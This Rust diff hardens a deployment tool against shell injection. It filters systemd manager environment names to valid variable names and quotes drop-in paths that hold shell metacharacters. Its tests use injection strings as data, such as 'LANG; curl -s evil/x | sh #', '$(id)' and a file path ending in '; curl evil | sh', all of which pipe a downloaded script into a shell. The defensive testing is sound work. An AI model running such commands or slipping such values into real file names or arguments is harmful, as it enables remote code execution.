@@ -3,7 +3,7 @@
 //! of every published version are under tests/fixtures/.
 
 use crate::clock::Timestamp;
-use crate::names::{HostName, ServiceName, StorePath};
+use crate::names::{HostName, ServiceName, StorePath, is_variable};
 use serde::{Deserialize, Deserializer, Serialize, Serializer, de};
 use std::collections::{BTreeMap, BTreeSet};
 use std::fmt;
@@ -55,7 +55,7 @@ pub struct State {
     pub other_machine: Option<OtherMachine>,
     /// The names of the variables that somebody gave to every service that systemd starts (`systemctl
     /// set-environment`), as they were when something was last found to be started.
-    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    #[serde(default, skip_serializing_if = "Vec::is_empty", deserialize_with = "variables")]
     pub manager_environment: Vec<String>,
     /// Why the last pass ended without having done its work; null: it did. What else is in here is then what the
     /// pass before left.
@@ -184,6 +184,26 @@ impl ServiceState {
     }
 }
 
+/// Names of variables become part of a command that somebody types. What is none is left out: systemd has not said it.
+fn variables<'de, D: Deserializer<'de>>(d: D) -> Result<Vec<String>, D::Error> {
+    let mut names = Vec::<String>::deserialize(d)?;
+    names.retain(|name| is_variable(name));
+    Ok(names)
+}
+
+/// A path as it is shown: one with characters that mean something to a shell is quoted, so that nobody types it
+/// unawares.
+fn shown(path: &str) -> String {
+    match is_plain(path) {
+        true => path.to_string(),
+        false => format!("{path:?}"),
+    }
+}
+
+fn is_plain(path: &str) -> bool {
+    path.bytes().all(|b| b.is_ascii_alphanumeric() || b"/._-@:+,%".contains(&b))
+}
+
 /// The same, for a service that has these drop-ins.
 pub fn attention(name: &ServiceName, drop_ins: &[String]) -> Option<String> {
     if drop_ins.is_empty() {
@@ -194,8 +214,9 @@ pub fn attention(name: &ServiceName, drop_ins: &[String]) -> Option<String> {
     let edited = |path: &String| {
         path.contains(&own)
             && ["/etc/systemd/", "/run/systemd/system"].iter().any(|dir| path.starts_with(dir))
+            && is_plain(path)
     };
-    let files = drop_ins.join(", ");
+    let files = drop_ins.iter().map(|path| shown(path)).collect::<Vec<_>>().join(", ");
     let start = "sudo systemctl start deployer";
     let next = match drop_ins.iter().all(edited) {
         true => format!("'sudo systemctl revert {name} && {start}' takes that back"),
@@ -498,5 +519,27 @@ mod tests {
         }
         assert!(serde_json::from_str::<Exposure>("11").is_err());
         assert!(Exposure::parse("4.9").unwrap() < Exposure::MEDIUM);
+    }
+
+    #[test]
+    fn of_what_systemd_gives_to_all_only_names_of_variables_are_read() {
+        let mut state = State::new(HostName::parse("biz").unwrap(), Timestamp(1_800_000_000));
+        let odd = ["LANG; curl -s evil/x | sh #", "A B", "1A", "", "A\n", "-x", "$(id)"];
+        let names = ["LD_PRELOAD"].iter().chain(&odd).chain(&["_x1"]);
+        state.manager_environment = names.map(ToString::to_string).collect();
+        let read = State::parse(&serde_json::to_vec(&state).unwrap()).unwrap();
+        assert_eq!(read.manager_environment, ["LD_PRELOAD", "_x1"]);
+    }
+
+    #[test]
+    fn a_drop_in_with_a_name_that_a_shell_would_run_is_shown_quoted_and_not_reverted() {
+        let name = ServiceName::parse("web").unwrap();
+        let own = "/etc/systemd/system/web.service.d/override.conf".to_string();
+        let said = attention(&name, std::slice::from_ref(&own)).unwrap();
+        assert!(said.contains("'sudo systemctl revert web && sudo systemctl start deployer'"), "{said}");
+        let odd = "/etc/systemd/system/web.service.d/x.conf; curl evil | sh \"'".to_string();
+        let said = attention(&name, &[own.clone(), odd.clone()]).unwrap();
+        assert!(said.contains(&format!("{own}, {odd:?}; remove that, then")), "{said}");
+        assert!(!said.contains("revert"), "{said}");
     }
 }
